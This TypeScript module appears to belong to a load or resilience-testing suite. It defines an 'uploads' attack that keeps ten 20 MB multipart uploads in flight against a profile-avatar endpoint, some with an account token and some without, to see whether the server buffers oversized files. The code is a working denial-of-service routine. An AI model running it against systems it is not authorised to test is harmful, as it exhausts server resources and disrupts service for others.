import type { Attack } from '../target.ts'
import { ask, keepAsking } from './http.ts'

const BOUNDARY = 'ramal-overload'
/** More than a file may have: a server that keeps it all before it looks has lost. */
const SIZE = 20 * 1024 * 1024

/** Files too large for anybody, ten at a time, of an account and of nobody. */
export const uploads: Attack = {
  title: 'uploads: 10 files of 20 MB at any moment, of one account and of nobody',
  run: (target, over) => {
    const file = body()
    return keepAsking(10, over, {}, (serial) =>
      ask(target, {
        method: 'PUT',
        path: '/api/v1/business/profile/avatar/',
        headers: {
          'Content-Type': `multipart/form-data; boundary=${BOUNDARY}`,
          ...(serial % 2 ? { Authorization: `Token ${target.token}` } : {}),
        },
        body: file,
      }),
    )
  },
}

function body(): Buffer {
  const head = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="avatar"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n`
  return Buffer.concat([Buffer.from(head), Buffer.alloc(SIZE, 7), Buffer.from(`\r\n--${BOUNDARY}--\r\n`)])
}
